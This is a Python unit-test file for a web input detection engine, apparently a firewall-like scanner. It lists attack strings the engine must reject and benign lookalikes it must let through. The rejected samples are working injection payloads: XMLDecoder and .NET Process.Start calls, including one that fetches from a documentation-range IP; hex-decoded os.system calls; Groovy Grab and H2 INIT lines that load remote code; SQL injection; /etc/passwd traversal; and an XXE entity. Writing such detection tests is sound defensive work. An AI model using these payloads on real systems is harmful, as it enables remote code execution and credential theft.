"""Unit: the shapes of the fresh39 first contact.

An ``XMLDecoder`` element calling a static method of a JDK process, thread, class-loading or reflection class
(``java_decoder._STATIC_CALL``); .NET's ``Process.Start`` with a command line, a Python process call on a literal
decoded at run time and Groovy's Grape annotations (``language_exec``); an H2 connection string whose ``INIT`` defines
or loads code (``jdbc_urls``); ``* from <table>`` cut by a comment (``sqli_cuts._STAR_FROM_CUT``); ``/./`` segments in
front of a system file and the system directories themselves as a whole value (``signatures._DOT_SEGMENT``,
``_SYSTEM_DIRECTORY``); ``echo`` printing a marker after a separator that opens the value (``shell._ECHO_MARKER``);
and, passed, a DOCTYPE naming a publisher's own DTD on that publisher's own site (``public_dtds``). Values are our
own; none comes from a corpus."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine

BODY = Context("body", "comment")
CONTEXTS = [BODY, Context("header", "x-note"), Context("cookie", "pref"), Context("query", "q")]


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


REJECTED = {
    "xmldecoder static call": [
        '<java><void class="java.lang.Thread" method="currentThread"><void method="getContextClassLoader"/></void>'
        "</java>",
        "<java version='1.8'><object class='java.lang.Runtime' method='getRuntime'/></java>",
        '<java><void method="forName" class="java.lang.Class"><string>x.Y</string></void></java>',
    ],
    "dotnet process start": [
        'var p = System.Diagnostics.Process.Start("cmd.exe", "/c whoami");',
        "Process.Start('powershell', '-nop -c iwr http://203.0.113.4/a')",
    ],
    "python decoded process argument": [
        "x');import os;os.system('7768616d69'.decode('hex'))#",
        "__x__ = os.popen(base64.b64decode('aWQ=')).read()",
        "subprocess.call(bytes.fromhex('6964'), shell=True)",
    ],
    "groovy grape": [
        "@GrabResolver(name='r', root='http://203.0.113.8/repo')\n@Grab(group='g', module='m', version='1')\nimport M;",
        "@GrabConfig(disableChecksums=true)\n@Grab('a.b:c:2')\nimport c",
        "@Grab('org.evil:payload:1.0')\nimport org.evil.Payload",
    ],
    "h2 init code": [
        "jdbc:h2:mem:a;INIT=CREATE ALIAS SHELL AS $$String s(String c) throws Exception { return c; }$$",
        "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://203.0.113.2/p.sql'",
        "jdbc:h2:mem:t;INIT=CREATE TRIGGER tr BEFORE SELECT ON INFORMATION_SCHEMA.USERS AS $$//javascript\nx()$$",
    ],
    "star from cut": [
        "* from users-- -",
        "* FROM `admin_accounts` #",
        "*from pg_shadow/*",
    ],
    "dot segments before a system file": [
        "/./etc/./shadow",
        "/././etc/passwd",
    ],
    "system directory as the value": [
        "/etc/",
        "/proc/",
        "/var/log/",
    ],
    "echo marker after an opening separator": [
        "&echo probe1234",
        "& echo vulnerable",
        "|echo x9y8",
        "; printf marker",
    ],
}

PASSED = {
    "xmlencoder beans and prose": [
        '<java version="1.8"><void method="add"><string>java.lang.Thread</string></void></java>',
        '<java><void property="owner" class="java.lang.Thread"/></java>',
        "java.lang.Thread has a static method currentThread().",
    ],
    "process start in code and prose": [
        "Call Process.Start to open the document in its default viewer.",
        'var p = Process.Start("notepad.exe", path);',
        "worker = multiprocessing.Process(target=run); worker.start()",
    ],
    "decoding without a process call": [
        "payload = base64.b64decode(request_body)",
        "name = b'6869'.decode('hex')",
    ],
    "grape named in prose": [
        "Use @Grab annotations in Groovy scripts to pull dependencies.",
        "@Grab is Groovy's dependency annotation",
    ],
    "h2 urls that run nothing": [
        "jdbc:h2:mem:test;INIT=SET SCHEMA app",
        "jdbc:h2:file:./data/db;MODE=MySQL;DB_CLOSE_DELAY=-1",
    ],
    "star from in prose": [
        "* from the kitchen -- bring plates",
        "* from 9am -- 5pm",
        "* From our sponsors # thanks",
    ],
    "dot segments and directories in prose": [
        "/./docs/./readme.md",
        "/etc/ holds the configuration",
        "/etcetera",
    ],
    "echo in names": [
        "Crosby & Echo Smith",
        "Rock & echo chamber",
    ],
    "publisher doctypes": [
        '<?xml version="1.0" ?>\n<!DOCTYPE eSearchResult PUBLIC "-//NLM//DTD esearch 20060628//EN" '
        '"https://eutils.ncbi.nlm.nih.gov/eutils/dtd/20060628/esearch.dtd">\n<eSearchResult><Count>1</Count>'
        "</eSearchResult>",
        '<!DOCTYPE TSeqSet PUBLIC "-//NCBI//NCBI TSeq/EN" "https://www.ncbi.nlm.nih.gov/dtd/NCBI_TSeq.dtd">'
        "<TSeqSet/>",
        '<!DOCTYPE struts-config PUBLIC "-//Apache Software Foundation//DTD Struts Configuration 1.3//EN" '
        '"http://struts.apache.org/dtds/struts-config_1_3.dtd"><struts-config/>',
    ],
}

STILL_REJECTED = [
    '<!DOCTYPE x PUBLIC "-//NLM//DTD x//EN" "http://203.0.113.9/evil.dtd"><x/>',
    '<!DOCTYPE x PUBLIC "-//NLM//DTD x//EN" "https://nlm.nih.gov.evil.example/x.dtd"><x/>',
    '<!DOCTYPE x SYSTEM "https://dtd.nlm.nih.gov/x.dtd"><x/>',
    '<!DOCTYPE x PUBLIC "-//NLM//DTD x//EN" "https://dtd.nlm.nih.gov/x.dtd" [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    "<x>&e;</x>",
    '<!DOCTYPE x PUBLIC "-//Acme//DTD x//EN" "https://acme.example/x.dtd"><x/>',
]


@pytest.mark.parametrize(("shape", "value"), [(k, v) for k, vs in REJECTED.items() for v in vs])
def test_fresh39_shape_is_rejected(engine: Engine, shape: str, value: str) -> None:
    for ctx in CONTEXTS:
        assert engine.inspect(value, ctx) is not None, (shape, value, ctx)


@pytest.mark.parametrize(("shape", "value"), [(k, v) for k, vs in PASSED.items() for v in vs])
def test_fresh39_lookalike_passes(engine: Engine, shape: str, value: str) -> None:
    assert engine.inspect(value, BODY) is None, (shape, value)


@pytest.mark.parametrize("value", STILL_REJECTED)
def test_fresh39_other_external_dtds_stay_rejected(engine: Engine, value: str) -> None:
    assert engine.inspect(value, BODY) is not None, value


def test_fresh39_new_searches_are_linear(engine: Engine) -> None:
    value = ('<void method="x" class="java.lang.Thr jdbc:h2:mem:a;INIT=x @Grab( Process.Start("a", '
             "os.system('x'.decode( <!DOCTYPE a PUBLIC \"-//NLM//x\" \"https://a.nlm.nih.gov/ " * 1500)[: 128 * 1024]
    start = time.process_time()
    engine.inspect(value, BODY)
    assert time.process_time() - start < 1.0
